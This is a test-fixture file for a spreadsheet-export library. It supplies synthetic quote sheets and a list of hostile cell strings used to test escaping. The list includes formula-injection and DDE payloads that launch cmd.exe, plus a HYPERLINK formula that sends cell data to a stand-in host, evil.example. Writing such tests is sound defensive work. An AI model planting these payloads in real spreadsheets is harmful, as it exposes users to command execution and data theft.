/* Synthetic sheet specs and a corpus of hostile strings shared by the sheets tests. */
import { SheetSpecBuilder } from "../../src/workbook/spec/builder";
import { date, formula, num, text, type SheetSpec } from "../../src/workbook/spec/spec";

/** Strings that a naive writer could turn into formulas, DDE links, numbers, dates or broken XML. */
export const HOSTILE_STRINGS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=1+1",
  "+1",
  "-1",
  "@A1",
  "=",
  "+",
  "-",
  "@",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "'=1+1",
  "'",
  "''",
  "00123",
  "TRUE",
  "1/2/2025",
  "50%",
  "#N/A",
  "1E5",
  "(1)",
  "£1,000",
  "_x0041_",
  "_x005F_x0041_",
  "a\r\nb",
  "tab\tinside",
  "<b>&amp;</b> ]]>",
  "\u202e=1+1",
  "emoji 😀 =1",
  "=1+1\u0000",
  "\u0001=SUM(1)",
  "x".repeat(300),
];

export const LINE_FIRST_ROW = 5;

export interface SyntheticQuote {
  spec: SheetSpec;
  /** Quantity and unit cost (in pence) per line. */
  lines: { qty: number; unitPence: number }[];
  totalRow: number;
  /** The exact total in pence. */
  totalPence: number;
}

/**
 * A quote-like sheet with `lineCount` cost lines: a row per line with text (taken from `texts` in
 * turn), numbers and ROUND(C*D,2), a SUM total named NHSDP_Total, a date, styles, merges, widths.
 */
export function syntheticQuote(
  lineCount: number,
  name = "Quote",
  texts: readonly string[] = ["Data extraction", "Linkage"]
): SyntheticQuote {
  const b = new SheetSpecBuilder(name);
  b.set("A1", text(`Quote for ${texts[0] ?? "partner"}`), { style: { bold: true, size: 14 } });
  b.merge("A1:E1");
  b.set("A2", text(texts[1 % texts.length] ?? ""), { style: { italic: true } });
  const head = { bold: true, fill: "#DCE6F1", border: { bottom: "thin" as const } };
  b.row(
    4,
    "A",
    ["Item", "Category", "Quantity", "Unit cost", "Line total"].map((h) => text(h)),
    { style: head }
  );
  const lines: { qty: number; unitPence: number }[] = [];
  let totalPence = 0;
  for (let i = 0; i < lineCount; i++) {
    const r = LINE_FIRST_ROW + i;
    const qty = (i % 7) + 1;
    const unitPence = 1000 + ((i * 1337) % 50000);
    lines.push({ qty, unitPence });
    totalPence += qty * unitPence;
    b.row(
      r,
      "A",
      [
        text(texts[i % texts.length] as string),
        text(i % 2 ? "Staff" : "Infrastructure"),
        num(qty),
        num(unitPence / 100),
        formula(`ROUND(C${r}*D${r},2)`),
      ],
      [
        { style: { wrap: true } },
        undefined,
        undefined,
        { numberFormat: "#,##0.00" },
        { numberFormat: "#,##0.00" },
      ]
    );
  }
  const lastLine = LINE_FIRST_ROW + lineCount - 1;
  const totalRow = lastLine + 2;
  b.set(`A${totalRow}`, text("Total"), { style: { bold: true } });
  b.set(`E${totalRow}`, formula(`SUM(E${LINE_FIRST_ROW}:E${lastLine})`), {
    numberFormat: "#,##0.00",
    style: { bold: true, border: { top: "thin", bottom: "double" } },
  });
  b.defineName("NHSDP_Total", `E${totalRow}`);
  b.set(`A${totalRow + 2}`, text("Generated"));
  b.set(`B${totalRow + 2}`, date("2025-06-30T10:30"));
  b.columnWidth("A", 40)
    .columnWidth("B", 16)
    .columnWidth("C", 10)
    .columnWidth("D", 12)
    .columnWidth("E", 14);
  b.freeze({ rows: 4 });
  b.print({
    header: { center: `Quote ${name}`, right: "NHSDP & partners" },
    footer: { left: "Confidential" },
  });
  return { spec: b.build(), lines, totalRow, totalPence };
}
